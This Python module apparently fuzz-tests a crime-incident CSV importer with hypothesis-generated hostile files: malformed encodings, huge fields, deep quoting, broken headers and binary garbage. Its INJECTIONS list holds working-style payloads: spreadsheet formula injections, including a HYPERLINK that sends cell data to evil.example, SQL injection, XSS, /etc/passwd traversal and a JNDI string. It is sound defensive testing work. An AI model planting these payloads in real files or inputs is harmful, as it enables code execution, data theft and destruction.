"""Hostile import files, generated with hypothesis, through the real importer.

Every case imports one generated file with the worked example's mapping into the same
store. Allowed outcomes: a successful import (the store changes; a fresh copy is taken
for the next case), or ImportFailed / MappingError / MixedDataError with a message that
names the file -- and then the store must be byte-identical (sha256) with no copy left
beside it. Anything else (another exception, a changed store after a failure, an empty
message) is counted as a defect and kept with the file for a regression test.
"""

from __future__ import annotations

import csv
import gzip
import io
import shutil
import time
from collections import Counter
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import seed as hypothesis_seed
from hypothesis import strategies as st

from bench.reliability.common import leftovers, registry_store
from harness.files import EXAMPLE_MAPPING as MAPPING
from ingest.errors import ImportFailed, MixedDataError
from ingest.hashing import file_sha256
from ingest.importer import import_file

HEADER = [
    "case_number", "offense_code", "offense_desc", "occurred_date", "occurred_time",
    "reported_date", "latitude", "longitude", "beat",
]  # fmt: skip
GOOD = ["SP-1", "MURDER", "Murder", "01/03/2024", "2210", "01/03/2024 23:05", "39.7990", "-89.6440", "A12"]
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+SUM(1+1)*cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "'; drop table incidents; --",
    '" or 1=1 --',
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://x/a}",
    "%s%s%s%n",
]

# Text with every awkward character: NUL and other controls, quotes, separators, RTL,
# emoji, lone combining marks. (Lone surrogates cannot be encoded; they are in `raw`.)
nasty_text = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("\x00\x01\x07\x1b\x7f\",;\t\r\n\\'=+-@|")),
        st.characters(codec="utf-8"),
    ),
    max_size=40,
)
field = st.one_of(nasty_text, st.sampled_from(INJECTIONS), st.sampled_from(GOOD))


def _csv(rows: list[list[str]], delimiter: str = ",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return out.getvalue()


@st.composite
def quoted_rows(draw: st.DrawFn) -> tuple[str, bytes]:
    """Proper CSV (the csv module quotes), fields full of NULs, injections and controls."""
    n = draw(st.integers(0, 30))
    rows = [
        [draw(field) if draw(st.booleans()) else GOOD[i] if i else f"SP-{r}" for i in range(len(HEADER))]
        for r in range(n)
    ]
    return "quoted rows with NUL/controls/injections", _csv([HEADER, *rows]).encode("utf-8", "surrogatepass")


@st.composite
def raw_lines(draw: st.DrawFn) -> tuple[str, bytes]:
    """The header then lines of unquoted hostile text: ragged rows, stray quotes."""
    lines = draw(st.lists(nasty_text, max_size=20))
    return "unquoted hostile lines", (",".join(HEADER) + "\n" + "\n".join(lines)).encode(
        "utf-8", "surrogatepass"
    )


@st.composite
def wrong_encoding(draw: st.DrawFn) -> tuple[str, bytes]:
    """Valid rows in an encoding the mapping does not declare, or invalid UTF-8 bytes."""
    text = _csv([HEADER, GOOD, [*GOOD[:2], "Café Señor ÆØÅ ☃", *GOOD[3:]]])
    enc = draw(st.sampled_from(["utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "cp037", "shift_jis"]))
    data = text.encode(enc, errors="replace")
    if draw(st.booleans()):
        at = draw(st.integers(0, len(data)))
        data = (
            data[:at]
            + draw(
                st.sampled_from([b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\x80", b"\xf8\x88\x80\x80\x80"])
            )
            + data[at:]
        )
    return f"wrong encoding ({enc})", data


@st.composite
def huge_field(draw: st.DrawFn) -> tuple[str, bytes]:
    size = draw(st.sampled_from([1 << 16, 1 << 20, 8 << 20, 40 << 20]))
    column = draw(st.integers(0, len(HEADER) - 1))
    char = draw(st.sampled_from(["A", "\x00", '"', "é", ","]))
    row = list(GOOD)
    row[column] = char * size
    quoted = draw(st.booleans())
    body = _csv([row]) if quoted else ",".join(row) + "\n"
    return f"huge field ({size >> 10} KiB of {char!r}, column {HEADER[column]})", (
        ",".join(HEADER) + "\n" + body
    ).encode()


@st.composite
def many_columns(draw: st.DrawFn) -> tuple[str, bytes]:
    n = draw(st.sampled_from([1000, 10_000, 20_000]))
    extra = [f"c{i}" for i in range(n - len(HEADER))]
    rows = draw(st.integers(0, 3))
    ragged = draw(st.booleans())
    body = [
        [*GOOD, *("x" for _ in extra[: len(extra) - (1 if ragged and r == 0 else 0)])] for r in range(rows)
    ]
    return f"{n:,} columns{' (ragged)' if ragged and rows else ''}", _csv([[*HEADER, *extra], *body]).encode()


@st.composite
def deep_quotes(draw: st.DrawFn) -> tuple[str, bytes]:
    depth = draw(st.sampled_from([1, 2, 3, 100, 10_000, 1_000_000]))
    shape = draw(st.sampled_from(["run", "nested", "unterminated", "newlines"]))
    value = {
        "run": '"' * depth,
        "nested": '"' * depth + "x" + '"' * depth,
        "unterminated": '"' + "a" * depth,
        "newlines": '"' + "\n" * min(depth, 100_000) + '"',
    }[shape]
    row = [value, *GOOD[1:]]
    return f"quotes: {shape} x{depth:,}", (",".join(HEADER) + "\n" + ",".join(row) + "\n").encode()


@st.composite
def header_only(draw: st.DrawFn) -> tuple[str, bytes]:
    ending = draw(st.sampled_from(["", "\n", "\r\n", "\n\n\n", "\r"]))
    bom = draw(st.sampled_from([b"", b"\xef\xbb\xbf", b"\xff\xfe"]))
    return "header only", bom + (",".join(HEADER) + ending).encode()


@st.composite
def broken_header(draw: st.DrawFn) -> tuple[str, bytes]:
    names = draw(
        st.sampled_from(
            [
                [*HEADER, "case_number"],  # repeated
                [*HEADER[:3], "", *HEADER[3:]],  # empty name
                HEADER[1:],  # a mapped column missing
                [h.upper() for h in HEADER],
                [f'"{h}' for h in HEADER],
                ["\x00" + h for h in HEADER],
                [h + "\x00" for h in HEADER],
            ]
        )
    )
    return "broken header", (",".join(names) + "\n" + ",".join(GOOD) + "\n").encode()


@st.composite
def binary_garbage(draw: st.DrawFn) -> tuple[str, bytes]:
    data = draw(st.binary(max_size=4096))
    kind = draw(st.sampled_from(["raw", "gzip magic", "gzip of garbage", "truncated gzip", "header+garbage"]))
    if kind == "gzip magic":
        data = b"\x1f\x8b" + data
    elif kind == "gzip of garbage":
        data = gzip.compress(data)
    elif kind == "truncated gzip":
        data = gzip.compress((",".join(HEADER) + "\n" + ",".join(GOOD) + "\n").encode() * 50)[:-20]
    elif kind == "header+garbage":
        data = (",".join(HEADER) + "\n").encode() + data
    return f"binary ({kind})", data


@st.composite
def line_breaks(draw: st.DrawFn) -> tuple[str, bytes]:
    rows = [",".join(HEADER), ",".join(GOOD), ",".join(["SP-2", *GOOD[1:]]), ",".join(["SP-3", *GOOD[1:]])]
    seps = [draw(st.sampled_from(["\n", "\r\n", "\r", "\n\r", "\x0b", "\x85", "\u2028"])) for _ in rows]
    return "line breaks", "".join(r + s for r, s in zip(rows, seps, strict=True)).encode()


hostile_file = st.one_of(
    quoted_rows(), raw_lines(), wrong_encoding(), huge_field(), many_columns(), deep_quotes(),
    header_only(), broken_header(), binary_garbage(), line_breaks(),
)  # fmt: skip


def run(workdir: Path, cases: int, seed: int = 14) -> dict[str, Any]:
    """Import `cases` generated files; return the outcome counts and every defect."""
    workdir.mkdir(parents=True, exist_ok=True)
    pristine = registry_store(workdir / "pristine.duckdb")
    store = workdir / "store" / "psp.duckdb"
    store.parent.mkdir(exist_ok=True)
    shutil.copyfile(pristine, store)
    state = {"sha": file_sha256(store)}
    outcomes: Counter[str] = Counter()
    kinds: Counter[str] = Counter()
    defects: list[dict[str, Any]] = []
    slowest: dict[str, Any] = {"s": 0.0, "kind": ""}
    examples: dict[str, str] = {}
    ran = [0]

    @settings(
        max_examples=cases,
        database=None,
        deadline=None,
        derandomize=False,
        suppress_health_check=list(HealthCheck),
        phases=[Phase.generate],  # generate only: every case is recorded, none shrunk
    )
    @given(case=hostile_file)
    def one(case: tuple[str, bytes]) -> None:
        kind, data = case
        ran[0] += 1
        kinds[kind.split(" (")[0].split(":")[0]] += 1
        path = workdir / f"case{ran[0] % 2}.csv"
        path.write_bytes(data)
        started = time.perf_counter()
        try:
            import_file(store, "generic", path, mapping=MAPPING)
        except (ImportFailed, MixedDataError) as exc:
            message = str(exc)
            outcomes["refused"] += 1
            examples.setdefault(kind.split(" (")[0], message[:300])
            problem = None
            if file_sha256(store) != state["sha"]:
                problem = "store changed by a failed import"
            elif leftovers(store):
                problem = f"left {leftovers(store)}"
            elif path.name not in message or len(message) < 20:
                problem = "message does not name the file"
            if problem:
                defects.append(
                    {
                        "kind": kind,
                        "problem": problem,
                        "message": message[:500],
                        "file": _keep(workdir, data, len(defects)),
                    }
                )
        except Exception as exc:  # noqa: BLE001 - any other exception is the finding
            outcomes["crashed"] += 1
            defects.append(
                {
                    "kind": kind,
                    "problem": f"crash: {type(exc).__name__}",
                    "message": str(exc)[:500],
                    "file": _keep(workdir, data, len(defects)),
                }
            )
            shutil.copyfile(pristine, store)
            state["sha"] = file_sha256(store)
        else:
            outcomes["imported"] += 1
            shutil.copyfile(pristine, store)  # the next case starts from the same store
            state["sha"] = file_sha256(store)
        took = time.perf_counter() - started
        if took > slowest["s"]:
            slowest.update(s=took, kind=kind)

    hypothesis_seed(seed)(one)()
    return {
        "cases": ran[0],
        "outcomes": dict(outcomes),
        "kinds": dict(kinds),
        "defects": defects,
        "slowest_s": round(slowest["s"], 2),
        "slowest_kind": slowest["kind"],
        "examples": examples,
    }


def _keep(workdir: Path, data: bytes, n: int) -> str:
    path = workdir / f"defect{n}.csv"
    path.write_bytes(data)
    return str(path)


def describe(result: dict[str, Any]) -> str:
    lines = [
        f"hostile import files: {result['cases']:,} cases; outcomes {result['outcomes']};"
        f" slowest {result['slowest_s']} s ({result['slowest_kind']})",
        "  kinds: " + ", ".join(f"{k} {n}" for k, n in sorted(result["kinds"].items())),
    ]
    lines += [f"  e.g. {kind}: {msg}" for kind, msg in sorted(result["examples"].items())]
    lines += [
        f"  DEFECT {d['kind']}: {d['problem']}: {d['message'][:200]} ({d['file']})" for d in result["defects"]
    ]
    lines.append(f"  => {len(result['defects'])} defects (crashes, partial writes, unclear messages)")
    return "\n".join(lines)
